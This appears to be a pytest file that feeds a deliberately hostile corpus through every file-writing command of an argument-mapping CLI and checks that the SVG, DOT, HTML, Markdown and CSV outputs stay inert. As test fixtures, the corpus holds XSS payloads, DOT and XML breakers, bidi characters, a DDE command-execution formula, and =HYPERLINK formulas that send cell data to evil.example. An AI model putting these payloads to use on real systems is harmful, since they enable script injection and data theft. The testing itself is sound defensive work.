"""A hostile corpus through the whole CLI: every file argmap writes keeps the corpus text as inert data.

One corpus holds every injection (HTML, SVG/XML breakers, DOT breakers, spreadsheet formulas,
Markdown and javascript: links, control and bidi characters, a 2,000-character name). It is
ingested with the fake models (argmap/fake.py), then every command that writes a file runs once,
and each output is parsed and checked.
"""
from __future__ import annotations

import base64
import csv
import io
import json
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from click.testing import CliRunner

from argmap.cli import cli
from argmap.export import check_aif

from conftest import use_fake_models  # noqa: E402

pytestmark = pytest.mark.skipif(shutil.which("dot") is None, reason="Graphviz 'dot' is not installed")

INJECT = "<x>; injected [label=INJECTED_NODE shape=box]; q=<i>"
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
DOT_NAME = 'Back\\slash \\N "quote" } { ; brace'
DOLLAR_NAME = "Dollar $x^$ Name"  # matplotlib mathtext
RTL_NAME = "Right\u202eemaN"
FORMULA_NAME = "-2+3+cmd|' /C calc'!A0"
LONG_NAME = " ".join(["Verylongname"] * 154)  # 2,001 characters
MOTION = "Sanctions on Pyongyang are working"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

ONE = f"""---
title: "Sanctions {SCRIPT} ]]> & \\"quoted\\" <![CDATA[x]]>"
outlet: "{IMG}"
date: "2018-03-28"
url: "javascript:alert(3)"
authors: []
---

<!-- analyst: {INJECT} -->

Sanctions on Pyongyang are working and China enforces them at the border.

<!-- analyst: {SCRIPT} -->

Sanctions on Pyongyang are not working and China does not enforce them at the border.

<!-- analyst: {LONG_NAME} -->

=HYPERLINK("http://evil.example/?x="&A1,"click") sanctions on Pyongyang are working at the border.

=HYPERLINK("http://evil.example/?y="&A1,"click") says sanctions on Pyongyang are not working at the border.

<!-- analyst: {DOT_NAME} -->

+1 sanctions on Pyongyang are working \\N \\G \\l " }} {{ ; at the border.

<!-- analyst: {IMG} -->

Sanctions on Pyongyang are not working ]]> & <!-- x --> at the border, see [x](javascript:alert(4)).
"""

TWO = f"""---
title: "Two \\x07 bell \u202eevil title"
outlet: "{FORMULA_NAME}"
date: "2019-01-08"
url: "https://example.org/two?a=1&b=2"
authors: ["{RTL_NAME}"]
---

-2 sanctions on Pyongyang are not working at the border.

@SUM(1) sanctions on Pyongyang are working at the border.

Control \x07 bell \x1b[31m escape: sanctions on Pyongyang are working at the \u202eborder.

<!-- analyst: {DOLLAR_NAME} -->

Sanctions on Pyongyang cost $5 and $6^ and are working at the border.

<!-- analyst: {FORMULA_NAME} -->

Sanctions on Pyongyang are not working at the border <script>alert(5)</script> today.
"""


# --- the run -----------------------------------------------------------------------------


THREE = """---
title: "Three"
outlet: "Outlet"
date: "2019-01-09"
url: 'https://example.org/three"onmouseover="alert(6)'
authors: ["Plain Analyst"]
---

Sanctions on Pyongyang are working at the border, and the trade numbers show it.
"""


def _invoke(args: list[str], failures: list[str]):
    """Run one command; a failure is recorded (test_every_command_succeeds) so the other checks still run."""
    result = CliRunner().invoke(cli, [str(a) for a in args])
    if result.exit_code != 0:
        failures.append(f"{' '.join(str(a)[:40] for a in args[:3])}: {result.output.strip()} {result.exception!r}")
    return result


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    """Ingest the hostile corpus with the fake models and run every command that writes a file."""
    tmp = tmp_path_factory.mktemp("hostile")
    corpus = tmp / "corpus"
    corpus.mkdir()
    (corpus / "one.md").write_text(ONE, encoding="utf-8")
    (corpus / "two.md").write_text(TWO, encoding="utf-8")
    (corpus / "three.md").write_text(THREE, encoding="utf-8")
    db, out = tmp / "h.db", tmp / "out"
    failures: list[str] = []
    with pytest.MonkeyPatch.context() as mp:
        use_fake_models(mp)
        result = CliRunner().invoke(cli, ["ingest", str(corpus), "--db", str(db)])
        if result.exit_code != 0 or result.exception:
            pytest.xfail(f"ingest of the hostile corpus failed: {result.output} {result.exception!r}")
        listed = _invoke(["analysts", "--db", db, "--json"], failures).stdout.splitlines()
        for fmt in ("svg", "dot"):
            _invoke(["map", "--db", db, "--format", fmt, "--out", out / "maps"], failures)
        for a, b, stem in ((INJECT, SCRIPT, "compare"), (LONG_NAME, IMG, "compare-long")):
            for fmt in ("svg", "dot"):
                _invoke(["compare", a, b, "--db", db, "--map", out / f"{stem}.{fmt}"], failures)
        _invoke(["matrix", "--db", db, "--out", out / "matrix"], failures)
        _invoke(["debate", MOTION, "--db", db, "--out", out / "debate", "--no-pdf", "--min-relevance", "0.3"],
                failures)
        _invoke(["export", "--db", db, "--format", "argdown", "--out", out / "export.argdown"], failures)
        _invoke(["export", "--db", db, "--format", "aif", "--out", out / "export.json"], failures)
        for what in ("claims", "relations"):
            _invoke(["export", "--db", db, "--format", "csv", "--what", what, "--out", out / f"{what}.csv"],
                    failures)
        _invoke(["report", "--db", db, "--out", out / "report" / "report.html"], failures)
    return out, [json.loads(x)["analyst"] for x in listed], failures


def test_every_command_succeeds_and_the_corpus_keeps_every_hostile_name(run):
    _, analysts, failures = run
    assert failures == []
    assert {INJECT, SCRIPT, IMG, DOT_NAME, DOLLAR_NAME, RTL_NAME, FORMULA_NAME, LONG_NAME} <= set(analysts)


# --- SVG and HTML --------------------------------------------------------------------------


def _local(name: str) -> str:
    return name.rsplit("}", 1)[-1]


def _safe_link(value: str) -> bool:
    """An http(s) link, or a relative one (no scheme at all)."""
    parts = urlsplit(value)
    if parts.scheme:
        return parts.scheme.lower() in ("http", "https") and bool(parts.netloc)
    return ":" not in value.split("/")[0]


def check_svg(data: bytes, where: str) -> ET.Element:
    root = ET.fromstring(data)  # well-formed XML
    for el in root.iter():
        assert _local(el.tag) != "script", where
        for attr, value in el.attrib.items():
            assert not _local(attr).lower().startswith("on"), (where, attr)
            if _local(attr) == "href" and not (_local(el.tag) == "image" and value.startswith("data:image/png;")):
                assert _safe_link(value), (where, value)  # matplotlib's heatmaps are inline PNG images
    assert b"\xe2\x80\xae" not in data, where  # U+202E
    return root


def _svgs(out: Path) -> list[Path]:
    return sorted(out.rglob("*.svg"))


def test_every_svg_is_well_formed_and_inert(run):
    out, _, _ = run
    names = {p.name for p in _svgs(out)}
    assert {"overview.svg", "issue-1.svg", "compare.svg", "compare-long.svg", "stance-matrix.svg",
            "agreement.svg", "debate-map.svg"} <= names
    for path in _svgs(out):
        check_svg(path.read_bytes(), str(path))


def test_long_name_keeps_the_overview_narrow(run):
    out, _, _ = run
    for path in (out / "maps" / "overview.svg", out / "compare-long.svg"):
        root = ET.fromstring(path.read_bytes())
        assert float(root.get("width").removesuffix("pt")) < 2000, path.name


class _Page(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def test_handout_is_inert_with_a_content_security_policy(run):
    out, _, _ = run
    page = (out / "debate" / "debate.html").read_text(encoding="utf-8")
    parser = _Page()
    parser.feed(page)
    parser.close()
    tags = parser.tags
    assert "script" not in {t for t, _ in tags}
    for tag, attrs in tags:
        assert not any(a.startswith("on") for a in attrs), (tag, attrs)
        if "href" in attrs:
            assert _safe_link(attrs["href"]), attrs
    csp = [a["content"] for t, a in tags
           if t == "meta" and a.get("http-equiv", "").lower() == "content-security-policy"]
    assert csp and "default-src 'none'" in csp[0]
    images = [a["src"] for t, a in tags if t == "img"]
    assert images and all(src.startswith("data:image/svg+xml;base64,") for src in images)
    for src in images:  # the embedded debate map
        check_svg(base64.b64decode(src.split(",", 1)[1]), "debate.html map")
    assert "javascript:" not in page.lower() and "\u202e" not in page


# --- DOT -----------------------------------------------------------------------------------


NODE_NAMES = {"overview": r"i\d+s\d", "issue": r"claim\d+", "compare": r"[ab]\d+"}


def _dot_nodes(path: Path) -> list[str]:
    done = subprocess.run(["dot", "-Tsvg", str(path)], capture_output=True, check=False)
    assert done.returncode == 0, (path, done.stderr.decode("utf-8", "replace"))
    root = check_svg(done.stdout, str(path))
    ns = "{http://www.w3.org/2000/svg}"
    return [g.find(f"{ns}title").text for g in root.iter(f"{ns}g") if g.get("class") == "node"]


def test_every_dot_file_parses_with_only_argmap_nodes(run):
    out, _, _ = run
    paths = sorted(out.rglob("*.dot"))
    assert {p.name for p in paths} >= {"overview.dot", "issue-1.dot", "compare.dot", "compare-long.dot"}
    for path in paths:
        kind = "overview" if path.stem == "overview" else "issue" if path.stem.startswith("issue") else "compare"
        nodes = _dot_nodes(path)
        assert nodes and all(re.fullmatch(NODE_NAMES[kind], n) for n in nodes), (path.name, nodes)
        statements = re.findall(r"^\s*(\w+) \[", path.read_text(encoding="utf-8"), re.M)
        assert sorted(nodes) == sorted(s for s in statements if s not in ("graph", "node", "edge")), path.name


# --- CSV, Markdown, Argdown, AIF -------------------------------------------------------------


def _number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


def test_every_csv_cell_is_inert(run):
    out, _, _ = run
    paths = sorted(out.rglob("*.csv"))
    assert {p.name for p in paths} == {"claims.csv", "relations.csv", "stance-matrix.csv", "agreement.csv"}
    seen = ""
    for path in paths:
        text = path.read_text(encoding="utf-8-sig")
        seen += text
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(FORMULA_START) or _number(cell), (path.name, cell)
    for neutralised in ("'=HYPERLINK(", "'+1 sanctions", "'@SUM(1)", "'" + FORMULA_NAME):
        assert neutralised in seen  # the text is still there, readable


def test_debate_markdown_has_no_raw_html_or_script_links(run):
    out, _, _ = run
    md = (out / "debate" / "debate.md").read_text(encoding="utf-8")
    assert "<script" not in md.lower() and "<img" not in md.lower() and "javascript:" not in md.lower()
    assert "&lt;script&gt;" in md
    links = re.findall(r"(?<!\\)\]\(([^)]*)\)", md)  # an unescaped "](" opens a link
    assert links == ["debate-map.svg"]
    assert "\u202e" not in md


def test_the_debate_pack_shortens_a_long_name_and_keeps_it_whole_on_hover(run):
    out, _, _ = run
    html = (out / "debate" / "debate.html").read_text(encoding="utf-8")
    md = (out / "debate" / "debate.md").read_text(encoding="utf-8")
    outside_titles = re.sub(r' title="[^"]*"', "", html)
    start = LONG_NAME[:60]
    assert start in outside_titles and LONG_NAME not in outside_titles  # shown shortened...
    assert f'title="{LONG_NAME}"' in html  # ...and whole on hover
    assert start in md and LONG_NAME not in md


def test_argdown_and_aif_exports_read_back(run):
    out, analysts, _ = run
    argdown = (out / "export.argdown").read_text(encoding="utf-8")
    assert argdown.startswith("===\n")
    aif = json.loads((out / "export.json").read_text(encoding="utf-8"))
    assert check_aif(aif) == []
    assert {p["firstname"] for p in aif["participants"]} == set(analysts)


# --- the HTML report -------------------------------------------------------------------------


def test_report_keeps_hostile_text_as_json_text_and_inert_maps(run):
    out, analysts, _ = run
    page = (out / "report" / "report.html").read_text(encoding="utf-8")
    parser = _Page()
    parser.feed(page)
    parser.close()
    scripts = [a for t, a in parser.tags if t == "script"]
    assert scripts == [{"type": "application/json", "id": "argmap-data"}, {}]  # data, then the page's own script
    for tag, attrs in parser.tags:
        assert not any(a.startswith("on") for a in attrs), (tag, attrs)
        for name in ("href", "xlink:href", "src"):
            if name in attrs:
                assert attrs[name].startswith("#") or attrs[name].startswith("data:image/"), (tag, attrs)
        assert tag not in ("img", "iframe", "object", "embed", "foreignobject", "image"), (tag, attrs)
    assert SCRIPT not in page and IMG not in page and "<x>" not in page and "\u202e" not in page
    block = re.search(r'id="argmap-data">(.*?)</script>', page, re.S).group(1)
    data = json.loads(block)
    assert {a["name"] for a in data["analysts"]} >= {INJECT, SCRIPT, IMG, DOT_NAME, FORMULA_NAME, LONG_NAME}
    assert "Right" + "emaN" in {a["name"] for a in data["analysts"]}  # the bidi override dropped, the name kept
    urls = {d["id"]: (d["url"], d["urlText"]) for d in data["documents"]}
    assert urls["one"] == ("", "javascript:alert(3)")  # text, never a link
    assert urls["two"][0] == "https://example.org/two?a=1&b=2"
    assert urls["three"][0].startswith("https://example.org/three%22onmouseover") or urls["three"][0] == ""
    for svg in re.findall(r"<svg\b.*?</svg>", page, re.S):  # each issue map, parsed as XML
        check_svg(svg.encode("utf-8"), "report map")


def test_graphviz_keeps_backslash_n_and_g_literal_in_tooltips_labels_and_legends(run):
    """Graphviz replaces \\N, \\G (node and graph names) in tooltips and HTML-like labels even when
    the backslash is escaped: a name with them must still read as written (a WORD JOINER after
    the backslash keeps it), never as "claim5 issue-1"."""
    out, _, _ = run
    shown = 0
    for path in _svgs(out):
        if path.parent.name in ("matrix",) or path.name.startswith(("stance-matrix", "agreement")):
            continue  # matplotlib's pictures: no Graphviz
        root = check_svg(path.read_bytes(), str(path))
        for el in root.iter():
            texts = [el.text or ""] + [v for k, v in el.attrib.items() if _local(k) == "title"]
            for text in texts:
                if "Back\\" in text:
                    shown += 1
                    assert "Back\\\u2060slash \\\u2060N" in text, (path.name, text)
    assert shown >= 3  # in labels and tooltips
